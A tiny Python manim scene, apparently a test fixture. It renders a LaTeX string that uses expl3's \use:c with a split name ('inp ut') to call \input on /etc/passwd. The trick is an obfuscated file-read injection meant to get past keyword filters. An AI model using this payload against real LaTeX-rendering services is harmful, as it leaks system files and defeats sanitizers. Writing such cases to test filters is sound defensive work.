# calls a command by LaTeX's programming layer
from manim import *


class GeneratedScene(Scene):
    def construct(self):
        self.add(Tex(r"\ExplSyntaxOn\use:c{inp ut}{/etc/passwd}\ExplSyntaxOff"))
        self.wait()
